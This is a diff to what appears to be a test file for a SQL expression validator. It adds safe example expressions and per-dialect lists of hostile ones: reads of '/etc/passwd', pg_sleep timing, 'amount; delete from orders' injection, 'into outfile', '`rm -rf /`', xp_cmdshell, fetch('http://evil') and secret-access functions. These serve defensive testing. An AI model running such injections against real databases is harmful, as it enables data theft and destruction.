@@ -73,6 +73,48 @@ sum(amount) over (partition by status)
 sum(amount) over (order by day rows between 6 preceding and current row)
 count(*) over (partition by status)
 md5(status)
+amount * (1 - quantity / 100.0)
+amount + quantity * 2 - 1
+-amount
+abs(amount - quantity)
+round(amount * 100) / 100
+round(amount / nullif(quantity, 0), 2)
+coalesce(amount, quantity, 0)
+case when amount is null then 0 else amount end
+case when quantity = 0 then null else amount / quantity end
+case when status = 'open' and amount > 9 then 'urgent' when is_paid then 'paid' else 'done' end
+case when day >= '2024-01-01' then 'new' else 'old' end
+amount >= 100 or quantity >= 10
+not (amount > 100)
+status <> 'open'
+status is not null and note is null
+status in ('open') and not is_paid
+amount not between 1 and 10
+upper(substring(status, 1, 1))
+concat(upper(left(status, 1)), lower(substring(status, 2, 20)))
+length(trim(note))
+coalesce(nullif(trim(note), ''), 'none')
+replace(replace(note, '-', ''), ' ', '')
+cast(quantity as decimal(18, 2)) * amount
+cast(extract(year from day) as varchar(4))
+extract(year from day) * 100 + extract(month from day)
+extract(month from sent_at) in (12, 1, 2)
+sum(amount * quantity)
+sum(amount * quantity) / nullif(sum(quantity), 0)
+sum(coalesce(amount, 0))
+avg(case when is_paid then amount end)
+max(case when status = 'open' then day end)
+min(coalesce(quantity, 0))
+count(distinct case when is_paid then status end)
+sum(case when status = 'open' then 1 else 0 end) * 100.0 / count(*)
+round(avg(amount), 2)
+max(amount) - min(amount)
+row_number() over (partition by status order by amount desc, day)
+amount - lag(amount) over (order by day)
+amount * 100.0 / nullif(sum(amount) over (partition by status), 0)
+avg(amount) over (order by day rows between 2 preceding and current row)
+rank() over (partition by status order by amount desc) <= 3
+max(day) over (partition by status)
 """
 
 ORDINARY = {
@@ -449,6 +491,74 @@ cast('tomorrow' as timestamp)
 version()
 database()
 connection_id()
+case when exists (select 1 from secrets) then 1 else 0 end
+coalesce((select 1), amount)
+amount + (select max(balance) from accounts)
+(with x as (select 1) select * from x)
+status in (table secrets)
+row(1, 2)
+concat(status, current_user)
+lower(session_user)
+case when random() > 0.5 then 1 else 0 end
+round(random() * 100)
+date_trunc('month', now())
+extract(year from current_date)
+day > current_date
+day - current_date
+coalesce(day, current_timestamp)
+md5(read_text('/etc/passwd'))
+length(load_file('/etc/passwd'))
+concat('a', pg_read_file('x'))
+case when pg_sleep(10) is null then 1 else 0 end
+sum(pg_sleep(1))
+max(random())
+count(distinct uuid())
+row_number() over (order by random())
+sum(amount) over (order by now())
+cast(pg_read_file('x') as varchar)
+nullif(version(), '')
+status = 'x' or sleep(5) = 0
+amount; delete from orders
+amount union select 1
+amount order by 1
+amount limit 1
+amount group by 1
+amount into outfile '/tmp/x'
+'a' || {{ target.password }}
+`rm -rf /`
+amount --
+amount /*! or 1=1 */
+$$x$$
+E'\\x27; drop table x'
+xp_cmdshell('dir')
+exec('x')
+eval('x')
+shell('ls')
+system('ls')
+http('http://evil')
+fetch('http://evil')
+pg_logfile_rotate()
+pg_export_snapshot()
+pg_create_restore_point('x')
+case status when user() then 1 end
+substring(current_setting('x'), 1, 3)
+cast(now() as varchar)
+extract(epoch from clock_timestamp())
+replace(status, 'a', getenv('HOME'))
+lag(now()) over (order by day)
+sum(case when random() > 0 then amount end)
+coalesce(nextval('s'), 1)
+left(query_to_xml('x', true, true, ''), 3)
+round(rand(), 2)
+concat(version(), 'x')
+lower(database())
+max(clock_timestamp())
+lead(random()) over (order by day)
+upper(getvariable('x'))
+abs(pg_backend_pid())
+day >= date_trunc('month', current_date)
+count(*) filter (where random() > 0)
+date_diff('day', day, today())
 """
 
 HOSTILE = {
@@ -478,6 +588,31 @@ duckdb_settings()
 st_read('x')
 http_post('http://evil', 'x')
 load_aws_credentials()
+read_json('x')
+read_json_auto('http://evil')
+read_ndjson('x')
+read_csv_auto('/etc/passwd')
+parquet_scan('x')
+parquet_metadata('x')
+sqlite_scan('x', 'y')
+postgres_scan('x', 'y', 'z')
+mysql_query('x', 'y')
+iceberg_scan('x')
+delta_scan('x')
+duckdb_secrets()
+duckdb_tables()
+which_secret('x', 's3')
+force_checkpoint('x')
+checkpoint('x')
+current_schema()
+current_schemas(true)
+current_setting('threads')
+getvariable('secret')
+add_parquet_key('a', 'b')
+nextval('s')
+currval('s')
+is_histogram_other_bin(status)
+enable_profiling()
 """,
     "postgres": """
 pg_read_binary_file('x')
@@ -510,6 +645,24 @@ has_table_privilege('x', 'select')
 ts_stat('select 1')
 crosstab('select 1')
 copy_from_program('x')
+pg_ls_logdir()
+pg_ls_waldir()
+pg_current_logfile()
+pg_switch_wal()
+pg_promote()
+pg_try_advisory_lock(1)
+pg_logical_emit_message(true, 'a', 'b')
+lo_create(1)
+lo_unlink(1)
+lowrite(1, 'x')
+dblink_connect('x')
+cursor_to_xml('x', 1, true, true, '')
+schema_to_xml('x', true, true, '')
+txid_current()
+lastval()
+current_database()
+pg_get_functiondef(1)
+pg_relation_size('x')
 """,
     "redshift": """
 getdate()
@@ -520,6 +673,11 @@ pg_backend_pid()
 f_evil(status)
 explain_model('x')
 random()
+pg_last_copy_id()
+current_namespace()
+has_schema_privilege('x', 'usage')
+text_to_int_alt('x')
+external_function(status)
 """,
     "snowflake": """
 system$typeof(1)
@@ -542,6 +700,16 @@ build_scoped_file_url('x', 'y')
 get_presigned_url('x', 'y')
 table(flatten(payload))
 invoker_role()
+system$abort_session(1)
+system$stream_has_data('x')
+system$pipe_status('x')
+current_session()
+current_ip_address()
+current_region()
+snowflake.cortex.sentiment(status)
+random()
+seq8()
+file_url('x')
 """,
     "bigquery": """
 generate_uuid()
@@ -560,6 +728,14 @@ array(select 1)
 struct(1, 2)
 @@project_id
 @parameter
+current_timestamp()
+current_time()
+ml.generate_text(1)
+bqutil.fn.evil(status)
+`project.dataset.routine`(status)
+rand()
+load_file('x')
+export_data('x')
 """,
     "mysql": """
 sysdate()
@@ -582,6 +758,16 @@ extractvalue('x', 'y')
 updatexml('x', 'y', 'z')
 name_const('a', 1)
 random_bytes(10)
+is_free_lock('a')
+release_all_locks()
+source_pos_wait('a', 1)
+wait_for_executed_gtid_set('a')
+charset(user())
+current_role()
+system_user()
+schema()
+load_file(concat('/etc/', 'passwd'))
+mysqlx_error('x')
 """,
 }
 
